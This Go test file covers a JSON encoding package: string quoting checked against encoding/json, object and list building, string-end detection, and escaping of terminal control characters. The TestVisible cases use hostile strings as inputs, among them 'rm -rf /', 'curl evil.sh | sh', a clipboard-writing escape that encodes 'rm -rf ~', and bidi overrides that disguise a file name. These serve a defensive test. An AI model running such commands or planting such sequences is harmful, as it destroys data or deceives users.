package wire

import (
	"bytes"
	"encoding/json"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// stdQuote is what Quote must produce: encoding/json without HTML escaping.
func stdQuote(s string) []byte {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	_ = enc.Encode(s)
	return bytes.TrimSuffix(b.Bytes(), []byte("\n"))
}

func TestQuoteIsEncodingJSON(t *testing.T) {
	cases := []string{"", "plain", `"quoted" \ back`, "<html> & </html>", "tab\tnl\nret\rbs\bff\f",
		"\x00\x01\x1f\x7f", "é ✓ 日本 😀", "\u2028\u2029", "bad \xff\xfe byte", "cut \xe2\x82", "C:\\build\\out"}
	for c := 0; c < 256; c++ {
		cases = append(cases, string([]byte{byte(c)}), "a"+string([]byte{byte(c)})+"z")
	}
	rng := rand.New(rand.NewPCG(1, 2))
	for i := 0; i < 2000; i++ {
		b := make([]byte, rng.IntN(40))
		for j := range b {
			b[j] = byte(rng.IntN(256))
		}
		cases = append(cases, string(b))
	}
	for _, s := range cases {
		require.Equal(t, string(stdQuote(s)), string(Quote(s)), "%q", s)
	}
}

func FuzzQuote(f *testing.F) {
	f.Add("a\"b\\c\n\u2028\xff")
	f.Fuzz(func(t *testing.T, s string) {
		if got, want := Quote(s), stdQuote(s); !bytes.Equal(got, want) {
			t.Fatalf("Quote(%q) = %s, encoding/json says %s", s, got, want)
		}
	})
}

func TestObjectNest(t *testing.T) {
	o := &Object{}
	o.Grow(64)
	o.Str("a", "1")
	o.Nest("n", func(n *Object) {
		n.Str("b", "2")
		n.Nest("m", func(m *Object) { m.Bool("c", true) })
		n.Nest("empty", func(*Object) {})
	})
	o.Raw("d", []byte(`[1]`))
	copied := o.Bytes()
	o.Str("e", "later")
	require.Equal(t, `{"a":"1","n":{"b":"2","m":{"c":true},"empty":{}},"d":[1]}`, string(copied))
	require.Equal(t, `{"a":"1","n":{"b":"2","m":{"c":true},"empty":{}},"d":[1],"e":"later"}`, string(o.Close()))
	require.Equal(t, "{}", string((&Object{}).Close()))
	require.Equal(t, "{}", string((&Object{}).Bytes()))
	o2 := &Object{}
	o2.Nest("x", func(n *Object) { n.Str("k", "v") })
	require.Equal(t, `{"x":{"k":"v"}}`, string(o2.Bytes()))
	require.Equal(t, 0, (&Object{}).Len())
}

// NestList writes an array of objects in place; Strs an array of strings.
func TestObjectNestList(t *testing.T) {
	o := &Object{}
	o.Str("a", "1")
	o.NestList("l", 3, func(i int, n *Object) {
		if i != 1 {
			n.Str("i", string(rune('0'+i)))
		}
	})
	o.NestList("none", 0, func(int, *Object) {})
	o.Strs("s", []string{"x", "\"q\""})
	o.Strs("empty", nil)
	require.Equal(t, `{"a":"1","l":[{"i":"0"},{},{"i":"2"}],"none":[],"s":["x","\"q\""],"empty":[]}`, string(o.Close()))
}

// With KeepRefs a large value is not copied: it stands alone among the
// pieces, which together are the object Raw would have written.
func TestObjectKeepRefs(t *testing.T) {
	big := []byte(`"` + strings.Repeat("x", RefMin) + `"`)
	build := func(o *Object) {
		o.Str("a", "1")
		o.Nest("data", func(d *Object) { d.Raw("out", big).Raw("small", []byte(`2`)) })
		o.Raw("payload", big)
	}
	var plain, kept Object
	build(&plain)
	kept.KeepRefs()
	build(&kept)
	want := plain.Close()

	segs := kept.Segments()
	require.Len(t, segs, 5)
	require.Same(t, &big[0], &segs[1][0], "kept, not copied")
	require.Same(t, &big[0], &segs[3][0])
	require.Equal(t, string(want), string(bytes.Join(segs, nil)))

	var again Object
	again.KeepRefs()
	build(&again)
	require.Equal(t, string(want), string(again.Bytes()))
	require.Equal(t, string(want), string(again.Close()))

	var small Object
	small.KeepRefs()
	small.Str("a", "b")
	require.Equal(t, [][]byte{[]byte(`{"a":"b"}`)}, small.Segments())
}

func TestStringEnd(t *testing.T) {
	for _, c := range []struct {
		doc  string
		i    int
		want int
	}{
		{`"abc"`, 0, 5},
		{`{"k": "v"}`, 6, 9},
		{`"a\"b"`, 0, 6},
		{`"a\\" x`, 0, 5},
		{`"a\\\"b"`, 0, 8},
		{`"\\\\"`, 0, 6},
		{`""`, 0, 2},
		{`"open`, 0, -1},
		{`"open\"`, 0, -1},
	} {
		require.Equal(t, c.want, StringEnd([]byte(c.doc), c.i), c.doc)
	}
}

// FuzzStringEnd: StringEnd finds the end of every string Quote writes,
// whatever follows it.
func FuzzStringEnd(f *testing.F) {
	f.Add(`a"b\c`, `, "x"`)
	f.Fuzz(func(t *testing.T, s, rest string) {
		q := Quote(s)
		require.Equal(t, len(q), StringEnd(append(q, rest...), 0))
	})
}

// What would act on a terminal is shown as an escape; the rest as it is.
func TestVisible(t *testing.T) {
	for in, want := range map[string]string{
		"rm -rf /":                                   "rm -rf /",
		"héllo, 世界 \ufffd":                           "héllo, 世界 \ufffd",
		"ls\x1b[2K\rgit status":                      `ls\x1b[2K\rgit status`,
		"\x1b]52;c;cm0gLXJmIH4=\x07echo hi":          `\x1b]52;c;cm0gLXJmIH4=\x07echo hi`,
		"a\nb\tc\x7f":                                `a\nb\tc\x7f`,
		"\u009b31mred":                               `\u009b31mred`,
		"\x9b31mred":                                 `\x9b31mred`,
		"echo safe \u202egnp.exe":                    `echo safe \u202egnp.exe`,
		"x\u2066y\u2069z\u200e\u200f\u061c":          `x\u2066y\u2069z\u200e\u200f\u061c`,
		"curl evil.sh | sh \u202a\u202b\u202c\u202d": `curl evil.sh | sh \u202a\u202b\u202c\u202d`,
	} {
		require.Equal(t, want, Visible(in), "%q", in)
	}
}
